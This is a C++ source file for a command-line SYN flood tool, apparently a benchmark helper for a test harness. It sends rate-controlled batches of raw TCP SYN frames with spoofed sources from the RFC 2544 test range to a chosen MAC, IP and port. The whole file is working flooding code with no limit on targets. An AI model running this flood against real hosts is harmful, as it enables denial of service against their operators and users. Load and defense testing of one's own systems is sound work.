// A SYN flood for run.py: raw frames with random sources from one interface, at a rate, for a while.
//
//   flood INTERFACE DESTINATION-MAC DESTINATION-IP PORT SYNS-PER-SECOND SECONDS [FRAME-BYTES]
//
// Prints how many were sent. Frames are 58 bytes, or padded to as many as are asked for (behind the IP packet). The
// sources are of 198.18.0.0/15 (RFC 2544: for tests), so that nobody answers.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <thread>

namespace {

struct __attribute__((packed)) Syn {
  ether_header ethernet;
  iphdr ip;
  tcphdr tcp;
  uint8_t options[4];  // MSS 1460
  uint8_t padding[1514 - 58];
};
constexpr size_t kSynBytes = sizeof(Syn) - sizeof(Syn::padding);

uint16_t fold(uint32_t sum) {
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

uint32_t sum_of(const void* data, size_t size) {
  const auto* at = static_cast<const uint8_t*>(data);
  uint32_t sum = 0;
  for (size_t n = 0; n + 1 < size; n += 2) sum += static_cast<uint32_t>(at[n] << 8 | at[n + 1]);
  return sum;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7 && argc != 8) return 2;
  const size_t frame_bytes =
      argc == 8 ? std::clamp<size_t>(std::strtoul(argv[7], nullptr, 10), kSynBytes, sizeof(Syn)) : kSynBytes;
  constexpr size_t kBatch = 64;
  const int fd = socket(AF_PACKET, SOCK_RAW, 0);
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  if (fd < 0 || to.sll_ifindex == 0 || bind(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0) {
    std::perror("flood");
    return 1;
  }
  Syn first{};
  unsigned mac[6];
  if (std::sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
  for (int n = 0; n < 6; ++n) first.ethernet.ether_dhost[n] = static_cast<uint8_t>(mac[n]);
  first.ethernet.ether_shost[0] = 2;
  first.ethernet.ether_type = htons(ETHERTYPE_IP);
  first.ip.version = 4;
  first.ip.ihl = 5;
  first.ip.ttl = 64;
  first.ip.protocol = IPPROTO_TCP;
  first.ip.tot_len = htons(kSynBytes - sizeof(ether_header));
  first.ip.daddr = inet_addr(argv[3]);
  first.tcp.th_dport = htons(static_cast<uint16_t>(std::atoi(argv[4])));
  first.tcp.th_off = 6;
  first.tcp.th_flags = TH_SYN;
  first.tcp.th_win = htons(64240);
  const uint8_t mss[4] = {2, 4, 1460 >> 8, 1460 & 255};
  std::memcpy(first.options, mss, sizeof(mss));

  std::array<Syn, kBatch> frames;
  std::array<iovec, kBatch> pieces;
  std::array<mmsghdr, kBatch> messages{};
  frames.fill(first);
  for (size_t n = 0; n < kBatch; ++n) {
    pieces[n] = {&frames[n], frame_bytes};
    messages[n].msg_hdr.msg_iov = &pieces[n];
    messages[n].msg_hdr.msg_iovlen = 1;
  }
  std::mt19937_64 chance(std::random_device{}());
  const auto started = std::chrono::steady_clock::now();
  const double rate = std::atof(argv[5]), seconds = std::atof(argv[6]);
  unsigned long sent = 0;
  for (;;) {
    const double passed = std::chrono::duration<double>(std::chrono::steady_clock::now() - started).count();
    if (passed >= seconds) break;
    if (static_cast<double>(sent) > rate * passed) {
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    for (Syn& frame : frames) {
      const uint64_t dice = chance();
      frame.ip.saddr = htonl(0xc6120000u | static_cast<uint32_t>(dice & 0x1ffff));
      frame.tcp.th_sport = htons(static_cast<uint16_t>(1024 + (dice >> 17) % 64000));
      frame.tcp.th_seq = static_cast<uint32_t>(dice >> 32);
      frame.ip.check = 0;
      frame.ip.check = htons(fold(sum_of(&frame.ip, sizeof(frame.ip))));
      frame.tcp.th_sum = 0;
      constexpr uint32_t kTcpBytes = sizeof(tcphdr) + sizeof(mss);
      frame.tcp.th_sum =
          htons(fold(sum_of(&frame.ip.saddr, 8) + IPPROTO_TCP + kTcpBytes + sum_of(&frame.tcp, kTcpBytes)));
    }
    const int n = sendmmsg(fd, messages.data(), kBatch, 0);
    if (n > 0) sent += static_cast<unsigned long>(n);
  }
  std::printf("%lu\n", sent);
  return 0;
}
